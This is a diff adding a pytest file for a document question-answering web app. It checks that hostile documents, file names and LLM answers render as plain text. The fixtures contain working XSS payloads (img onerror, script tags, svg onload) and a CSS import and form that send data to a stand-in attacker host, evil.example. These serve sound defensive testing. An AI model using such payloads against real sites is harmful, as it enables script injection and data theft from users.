@@ -1,0 +1,133 @@
+"""Nothing that others wrote does anything on the page: not in documents, names, titles, questions or answers."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from house import answered, serve_house
+from ollama_server import Reply
+from rendering import FORMS
+
+from api.web.live_answer import LiveAnswer
+from api.web.markdown import TAGS, render_markdown
+from kb.types import Answer, Sources, Token
+
+TAGGED = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
+STYLED = "<style>@import 'http://evil.example/s.css'; body { display: none }</style>"
+FORM = "<form action='http://evil.example/'><input name=q value=secret><button>Send</button></form>"
+NAME = "'\"><img src=x onerror=document.title=1> & <b>b.md"
+TEXT = f"# {TAGGED}\n\nThe gate code is 4711. {TAGGED} {STYLED} {FORM}\n\n| a | {TAGGED} |\n|---|---|\n| 1 | {FORM} |\n"
+ASKED = "What is the gate code?"
+
+
+@pytest.fixture(scope="module")
+def trap(tmp_path_factory, ollama) -> Iterator[str]:
+    folder = tmp_path_factory.mktemp("hostile") / "docs"
+    folder.mkdir()
+    (folder / NAME.replace("/", "_")).write_text(TEXT, encoding="utf-8")
+    (folder / "page.html").write_text(f"<title>{TAGGED}</title><p>Gate codes are secret.</p>{FORM}", encoding="utf-8")
+    (folder / "drawing.svg").write_text("<svg onload=alert(1)><text>Gate</text></svg>", encoding="utf-8")
+    with serve_house(tmp_path_factory.mktemp("served"), ollama, folder) as address:
+        yield address
+
+
+@pytest.fixture
+def trapped(visit, trap) -> Iterator:
+    with visit(at=trap) as page:
+        page.on("dialog", lambda dialog: pytest.fail("a dialog was opened"))
+        yield page
+        assert page.title() == "kb"
+        inside = "#turns, #viewer .paper, #documents"
+        for tag in ("script", "style", "iframe", "object", "form[action]", "#turns img", "#viewer .paper img"):
+            assert page.locator(f":is({inside}) {tag}").count() == 0, tag
+
+
+def test_a_hostile_document_is_words_in_answers_cards_viewer_and_lists(trapped, ollama, draw):
+    ollama.replies.append(Reply([f"The gate code is 4711 [1].\n\n{TAGGED}\n\n{STYLED}\n\n{FORM}\n"]))
+    answered(trapped, ASKED)
+    trapped.click(".answer .mark >> nth=0")
+    trapped.wait_for_selector("#viewer .text")
+    assert "onerror" in trapped.inner_text("#viewer .text")
+    draw(trapped, "hostile")
+    trapped.hover(".answer .mark >> nth=0")
+    trapped.keyboard.press("Escape")
+    trapped.click("[data-place=documents]")
+    trapped.wait_for_selector("#documents tbody tr")
+    assert NAME.replace("/", "_") in trapped.locator("td.name").all_inner_texts()
+    trapped.fill(".mentions-form input", "onerror")
+    trapped.press(".mentions-form input", "Enter")
+    trapped.wait_for_selector(".mentions .place")
+    trapped.click(".row-tools [aria-label^=Statements] >> nth=0")
+    trapped.wait_for_selector(".inside ol")
+    draw(trapped, "hostile-documents")
+
+
+def test_every_form_of_hostile_markdown_is_inert_in_an_answer(trapped, ollama):
+    ollama.replies.append(Reply(["\n\n".join(FORMS.values())]))
+    answered(trapped, ASKED)
+    links = trapped.locator(".answer a")
+    for at in range(links.count()):
+        assert links.nth(at).get_attribute("href").startswith(("http://evil.example/", "mailto:"))
+        assert links.nth(at).get_attribute("rel") == "noopener noreferrer nofollow"
+        assert links.nth(at).get_attribute("target") == "_blank"
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_no_form_becomes_more_than_a_link_that_shows_its_target(form):
+    html = render_markdown(FORMS[form])
+    for tag in (
+        "<img",
+        "<script",
+        "<svg",
+        "<form",
+        "<iframe",
+        "javascript:alert(1)'",
+        'href="javascript',
+        'href="data',
+    ):
+        assert tag not in html
+    if form == "a link":
+        assert html == (
+            '<p><a href="http://evil.example/c" title="http://evil.example/c" target="_blank" '
+            'rel="noopener noreferrer nofollow">press here</a> <span class="target">(http://evil.example/c)</span></p>\n'
+        )
+
+
+def test_marks_are_buttons_only_as_far_as_there_are_sources():
+    html = render_markdown("Yes [1][2]. `[1]` [3] (not found in the sources) [1](http://evil.example)", sources=2)
+    assert html.count("<button") == 3
+    assert '<button type="button" class="mark" data-n="2">2</button>' in html
+    assert "[3]" in html
+    assert "<code>[1]</code>" in html
+    assert '<span class="unfounded">not found in the sources</span>' in html
+    assert "<a" not in html
+
+
+def test_what_a_document_says_word_for_word_is_no_markdown():
+    live = LiveAnswer()
+    frames = [*live.draw(Sources(())), *live.draw(Token("- "))]
+    frames += live.draw(Token("**bold** <b>x</b> [1] ![p](http://evil.example/p.png)", quoted=True))
+    frames += live.draw(Answer("q", "", False, (), (), "builtin"))
+    html = "".join(next(frame for frame in reversed(frames) if frame.name == "blocks").data["html"])
+    assert "**bold** &lt;b&gt;x&lt;/b&gt; [1] <code>![p](http://evil.example/p.png)</code>" in html
+    assert "<strong>" not in html
+    assert "<a" not in html
+
+
+def test_blocks_that_are_finished_are_sent_once_and_make_up_the_whole():
+    live = LiveAnswer()
+    shown: list[str] = []
+    text = "One.\n\n- a\n- b\n\n```\nx\n\ny\n```\n\n| a |\n|---|\n| 1 |\n\nEnd."
+    for event in (Sources(()), *(Token(letter) for letter in text), Answer("q", text, False, (), (), "m")):
+        for frame in live.draw(event):
+            if frame.name == "blocks":
+                shown[frame.data["at"] :] = frame.data["html"]
+    assert "".join(shown) == render_markdown(text)
+    assert {"script", "style", "img", "svg", "form", "iframe"}.isdisjoint(TAGS)
+
+
+def test_drawing_takes_no_longer_for_each_piece_of_a_long_answer():
+    live = LiveAnswer()
+    sent = sum(len(live.draw(Token(f"word{n} "))) for n in range(3000))
+    assert sent < 300  # and not 3,000: a block that grows is drawn less often than its pieces come
